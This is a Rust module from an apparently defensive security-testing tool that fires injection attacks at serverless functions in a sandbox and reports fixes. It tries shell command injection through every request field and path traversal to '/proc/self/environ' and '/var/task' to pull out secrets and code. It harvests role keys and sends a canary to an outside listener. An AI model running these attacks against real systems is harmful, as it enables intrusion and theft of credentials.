//! Injection through every string of every normal request: commands, and paths of files.
//!
//! Each attack is an ordinary request of a client, so it is sent with the client's token and, where there is one, also
//! without.

mod payload;

use std::collections::BTreeMap;

use burgward_template::model::Function;

use self::payload::{CONTEXTS, Context, script, through_slashes};
use crate::beacon::Beacon;
use crate::chance::{self, Product};
use crate::code::Code;
use crate::http::Answer;
use crate::loot::{self, Keys};
use crate::normal::{Field, Normal};
use crate::report::{Attack, Attacker, OnAws, StoppedBy};
use crate::scene::{Scene, brief};

/// Fields of one function that are tried; a request with more is of a kind that the first ones stand for.
const MOST_FIELDS: usize = 24;
/// Fields left out, one at a time, when a file's path is tried.
const MOST_SIBLINGS: usize = 3;

/// What injection gave.
#[derive(Default)]
pub(crate) struct Injected {
    pub(crate) attacks: Vec<Attack>,
    /// Keys of roles, with the function that they were taken from.
    pub(crate) keys: Vec<(String, Keys)>,
}

/// The way in that a field gave.
struct Opening<'a> {
    normal: &'a Normal,
    field: &'a Field,
    context: Context,
}

/// Every field of every normal request of one function, one after the other: requests that warm one sandbox.
pub(crate) async fn function(scene: &Scene<'_>, function: &Function, beacon: &Beacon) -> Injected {
    let mut injected = Injected::default();
    let fields = fields(scene, function);
    let mut opening = None;
    for (normal, field) in &fields {
        let (attack, context) = commands(scene, normal, field).await;
        if let (None, Some(context)) = (&opening, context) {
            opening = Some(Opening { normal, field, context });
        }
        if !normal.tokens.is_empty() {
            injected.attacks.push(bare(scene, normal, field, context.unwrap_or(CONTEXTS[0])).await);
        }
        injected.attacks.push(attack);
    }
    if fields.is_empty() {
        return injected;
    }
    let environment = environment(scene, function, &fields, opening.as_ref(), &mut injected.keys).await;
    injected.attacks.push(environment);
    injected.attacks.push(code(scene, function, &fields, opening.as_ref()).await);
    injected.attacks.push(network(scene, function, &fields, opening.as_ref(), beacon).await);
    injected
}

/// Each field of a route once, in the request that carries most.
fn fields<'a>(scene: &'a Scene<'_>, function: &Function) -> Vec<(&'a Normal, Field)> {
    let mut normals: Vec<&Normal> = scene.normals.iter().filter(|n| n.function == function.logical_id).collect();
    normals.sort_by_key(|normal| std::cmp::Reverse(normal.fields().len()));
    let mut found: BTreeMap<String, (&Normal, Field)> = BTreeMap::new();
    for normal in normals {
        for field in normal.fields() {
            found.entry(format!("{} {} {field}", normal.api, normal.route)).or_insert((normal, field));
        }
    }
    found.into_values().take(MOST_FIELDS).collect()
}

fn injected(normal: &Normal, field: &Field, context: Context, command: &str) -> Normal {
    normal.with(field, &context.wrap(&normal.value(field), command))
}

/// Tries to have the function compute a product in a shell.
async fn commands(scene: &Scene<'_>, normal: &Normal, field: &Field) -> (Attack, Option<Context>) {
    let mut last = Err("nothing was tried".to_owned());
    for context in CONTEXTS {
        let product = Product::new();
        last = scene.as_customer(&injected(normal, field, context, &product.command())).await;
        if last.as_ref().is_ok_and(|answer| answer.text().contains(&product.printed())) {
            return (command_attack(scene, normal, field, &last, true), Some(context));
        }
        if last.as_ref().is_ok_and(|answer| scene.layer(normal, answer) == StoppedBy::GatewayAuthorizer) {
            break;
        }
    }
    (command_attack(scene, normal, field, &last, false), None)
}

fn command_attack(
    scene: &Scene<'_>,
    normal: &Normal,
    field: &Field,
    answer: &Result<Answer, String>,
    through: bool,
) -> Attack {
    let came_back = if through { "the product that the shell computed".to_owned() } else { brief(answer) };
    let attacker = if normal.tokens.is_empty() { Attacker::Outsider } else { Attacker::Customer };
    Attack {
        id: format!("command-injection/{}/{field}", normal.target()),
        attacker,
        target: normal.target(),
        tried: format!("shell commands through `{field}`"),
        came_back,
        through,
        stopped_by: stopped(scene, normal, answer, through),
        on_aws: if through { OnAws::Needs("code that starts no shell with request text".into()) } else { OnAws::Holds },
        place: if through { shell_place(scene.code(&normal.function)) } else { scene.route_place(normal) },
    }
}

/// The same without a token.
async fn bare(scene: &Scene<'_>, normal: &Normal, field: &Field, context: Context) -> Attack {
    let product = Product::new();
    let request = injected(normal, field, context, &product.command()).without_tokens();
    let answer = scene.as_is(&request).await;
    let through = answer.as_ref().is_ok_and(|answer| answer.text().contains(&product.printed()));
    let mut attack = command_attack(scene, normal, field, &answer, through);
    attack.id = format!("command-injection-no-token/{}/{field}", normal.target());
    attack.attacker = Attacker::Outsider;
    attack.tried.push_str(", without a token");
    attack
}

fn stopped(scene: &Scene<'_>, normal: &Normal, answer: &Result<Answer, String>, through: bool) -> StoppedBy {
    match answer {
        _ if through => StoppedBy::None,
        Ok(answer) => scene.layer(normal, answer),
        Err(_) => StoppedBy::None,
    }
}

fn shell_place(code: Option<&Code>) -> Option<String> {
    code?.place_of(&["shell=True", "os.system(", "os.popen(", "getoutput(", "eval(", "exec("])
}

/// Answers to a command through an opening and, failing that, to paths of files through every field.
async fn brought_out(
    scene: &Scene<'_>,
    fields: &[(&Normal, Field)],
    opening: Option<&Opening<'_>>,
    command: &str,
    path: &str,
    told: impl Fn(&str) -> bool,
) -> (Result<Answer, String>, Option<(String, String)>) {
    let mut last = Err("nothing was tried".to_owned());
    if let Some(Opening { normal, field, context }) = opening {
        last = scene.as_customer(&injected(normal, field, *context, command)).await;
        if let Some(text) = last.as_ref().ok().map(Answer::text).filter(|text| told(text)) {
            return (last, Some((format!("a command through `{field}`"), text)));
        }
    }
    for (normal, field) in fields {
        let spoiled = normal.with(field, path);
        let others = normal.fields().into_iter().filter(|other| other != field);
        let thinner = others.filter_map(|other| spoiled.without(&other)).take(MOST_SIBLINGS);
        for request in std::iter::once(spoiled.clone()).chain(thinner) {
            last = scene.as_customer(&request).await;
            if let Some(text) = last.as_ref().ok().map(Answer::text).filter(|text| told(text)) {
                return (last, Some((format!("a path in `{field}`"), text)));
            }
        }
    }
    (last, None)
}

async fn environment(
    scene: &Scene<'_>,
    function: &Function,
    fields: &[(&Normal, Field)],
    opening: Option<&Opening<'_>>,
    keys: &mut Vec<(String, Keys)>,
) -> Attack {
    let told = |text: &str| !loot::environment(text, function).is_empty();
    let path = "../../../../../../proc/self/environ";
    let (last, found) = brought_out(scene, fields, opening, "env", path, told).await;
    let mut attack = base(scene, function, fields, &last, found.is_some(), "environment");
    "the environment, brought out in an answer".clone_into(&mut attack.tried);
    if let Some((way, text)) = found {
        keys.extend(Keys::find(&text).map(|keys| (function.logical_id.clone(), keys)));
        attack.came_back = format!("by {way}: {}", loot::environment(&text, function).join(", "));
        attack.on_aws = OnAws::Needs("input handling in the code, and secrets outside of the environment".into());
        let secret = function.env.iter().find(|(name, _)| loot::is_secret_name(name));
        attack.place = secret.map(|(_, value)| value.span.place()).or(attack.place);
    }
    attack
}

async fn code(
    scene: &Scene<'_>,
    function: &Function,
    fields: &[(&Normal, Field)],
    opening: Option<&Opening<'_>>,
) -> Attack {
    let lines = scene.code(&function.logical_id).map(Code::telling_lines).unwrap_or_default();
    // Three lines of the code in one answer are no accident.
    let told =
        |text: &str| lines.iter().filter(|line| text.contains(*line)).take(3).count() == 3.min(lines.len().max(1));
    let first = scene.code(&function.logical_id).and_then(|code| code.top_files().next().map(ToOwned::to_owned));
    let path = format!("../../../../../../var/task/{}", first.unwrap_or_default());
    let (last, found) = brought_out(scene, fields, opening, "cat *.py", &path, told).await;
    let mut attack = base(scene, function, fields, &last, found.is_some(), "files");
    "the function's files, brought out in an answer".clone_into(&mut attack.tried);
    if let Some((way, _)) = found {
        attack.came_back = format!("by {way}: lines of its code");
        attack.on_aws = OnAws::Needs("input handling in the code".into());
    }
    attack
}

async fn network(
    scene: &Scene<'_>,
    function: &Function,
    fields: &[(&Normal, Field)],
    opening: Option<&Opening<'_>>,
    beacon: &Beacon,
) -> Attack {
    let word = format!("out-{}", chance::word());
    let mut last = Err("nothing was tried".to_owned());
    if let Some(Opening { normal, field, context }) = opening {
        for address in &beacon.addresses {
            let command = through_slashes(&script(*address, &word));
            last = scene.as_customer(&injected(normal, field, *context, &command)).await;
        }
    }
    let through = beacon.has_heard(&word);
    let mut attack = base(scene, function, fields, &last, through, "network");
    "a canary, sent to a listener outside".clone_into(&mut attack.tried);
    match (opening, through) {
        (Some(_), true) => {
            "the listener heard the canary".clone_into(&mut attack.came_back);
            attack.on_aws = OnAws::Needs("a VPC without a way out".into());
        }
        (Some(_), false) => {
            "the command ran, nothing reached the listener".clone_into(&mut attack.came_back);
            attack.stopped_by = StoppedBy::SandboxNetwork;
            attack.on_aws = OnAws::Needs("a VPC without a way out".into());
        }
        (None, _) => {
            "no command ran".clone_into(&mut attack.came_back);
            attack.stopped_by = StoppedBy::Application;
        }
    }
    attack
}

fn base(
    scene: &Scene<'_>,
    function: &Function,
    fields: &[(&Normal, Field)],
    last: &Result<Answer, String>,
    through: bool,
    what: &str,
) -> Attack {
    let normal = fields.first().map(|(normal, _)| *normal);
    let stopped_by = normal.map_or(StoppedBy::None, |normal| stopped(scene, normal, last, through));
    let attacker =
        if normal.is_some_and(|normal| !normal.tokens.is_empty()) { Attacker::Customer } else { Attacker::Outsider };
    Attack {
        id: format!("injection-{what}/{}", function.logical_id),
        attacker,
        target: function.logical_id.clone(),
        tried: String::new(),
        came_back: brief(last),
        through,
        stopped_by,
        on_aws: OnAws::Holds,
        place: if through { shell_place(scene.code(&function.logical_id)) } else { None },
    }
}
